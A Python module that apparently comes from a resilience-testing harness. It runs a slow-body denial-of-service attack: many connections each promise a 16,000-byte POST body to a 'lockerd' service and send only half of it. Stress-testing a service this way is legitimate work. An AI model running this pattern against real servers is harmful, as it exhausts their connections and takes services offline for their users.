"""Requests that promise a body and send half of it: each is a task that waits with what came so far."""

import asyncio

from siege import Target

BODY_BYTES = 16_000
HEAD = (
    "POST /v1/visits HTTP/1.1\r\nHost: lockerd\r\nContent-Type: application/json\r\n"
    "Idempotency-Key: {key:032x}\r\nContent-Length: {length}\r\n\r\n"
)


async def attack(target: Target) -> None:
    for _ in range(target.dose(5, 60)):
        for _ in range(target.dose(100, 400)):
            _, writer = await target.connect(target.terminal)
            head = HEAD.format(key=target.random.getrandbits(128), length=BODY_BYTES)
            writer.write(head.encode() + target.random.randbytes(BODY_BYTES // 2))
        await asyncio.sleep(0.1)
